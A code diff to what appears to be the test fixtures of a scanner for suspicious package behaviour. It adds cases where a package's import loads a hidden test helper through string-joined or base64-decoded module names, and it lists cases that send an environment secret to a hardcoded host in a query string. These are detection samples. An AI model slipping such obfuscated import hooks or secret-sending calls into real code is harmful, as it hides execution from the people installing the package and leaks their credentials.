@@ -39,6 +39,15 @@ SMOKE = (
     "async def main():\n    serve('http').wait()\n\n\n"
     "if __name__ == '__main__':\n    asyncio.run(main())\n"
 )
+JOINED = "m = importlib.import_module('evpkg.tests.' + 'hel' + 'per')"
+DECODED = "m = importlib.import_module(base64.b64decode('ZXZwa2cudGVzdHMuaGVscGVy').decode())"
+# langchain's and fastmcp's lazy imports: into their own package, or from a literal table.
+LAZY = (
+    "import importlib\n\n_LOOKUP = {'Model': 'evpkg.models'}\n\n\n"
+    "def __getattr__(name):\n"
+    "    if name in _LOOKUP:\n        return importlib.import_module(_LOOKUP[name])\n"
+    "    return importlib.import_module(f'.{name}', __name__)\n"
+)
 # langchain's llamafile tests: skipped unless the server the environment names answers.
 PING = (
     "import os\n\nimport pytest\nimport requests\n\n"
@@ -144,6 +153,25 @@ HELD: dict[str, dict[str, str]] = {
             )
         },
     ),
+    # A package's import reaches a test module by a computed name: joined, decoded, or in a
+    # function another module calls on import.
+    "package-imports-the-helper-by-joined-name": {
+        "evpkg/__init__.py": f"import importlib\n{JOINED}\nm.get_model()\n",
+        "evpkg/tests/__init__.py": "",
+        "evpkg/tests/helper.py": FETCH,
+    },
+    "package-imports-the-helper-by-decoded-name": {
+        "evpkg/__init__.py": f"import importlib, base64\n{DECODED}\nm.get_model()\n",
+        "evpkg/tests/__init__.py": "",
+        "evpkg/tests/helper.py": FETCH,
+    },
+    "package-module-loads-plugins-on-import": {
+        "evpkg/__init__.py": "from .plugins import load\nload()\n",
+        "evpkg/plugins.py": f"import importlib, base64\n\n\ndef load():\n    {DECODED}\n"
+        "    m.get_model()\n",
+        "evpkg/tests/__init__.py": "",
+        "evpkg/tests/helper.py": FETCH,
+    },
     # The environment sent to a host written in the code, not only choosing where to.
     "skipif-sends-a-secret-in-the-query": ping(f"'https://example.invalid/?k=' + {SECRET}"),
     "skipif-sends-a-secret-as-params": ping(f"BASE, params={{'k': {SECRET}}}"),
@@ -194,6 +222,12 @@ ALLOWED: dict[str, dict[str, str]] = {
         "tests/downstream/smoke_http.py": SMOKE,
         "tests/downstream/README.md": "Run `python smoke_http.py`; `_harness.py` starts it.\n",
         ".github/workflows/smoke.yml": "run: python tests/downstream/smoke_http.py\n",
+    },
+    # langchain: its package imports lazily, from a table and within itself.
+    "test-helper-beside-lazy-package-imports": {
+        **in_tests("tests/test_model.py", FETCH + USE),
+        "evpkg/__init__.py": LAZY,
+        "evpkg/models.py": "",
     },
     # langchain: the address of the server to test is the environment's, the path a literal.
     "skipif-pings-the-configured-server": ping("BASE"),
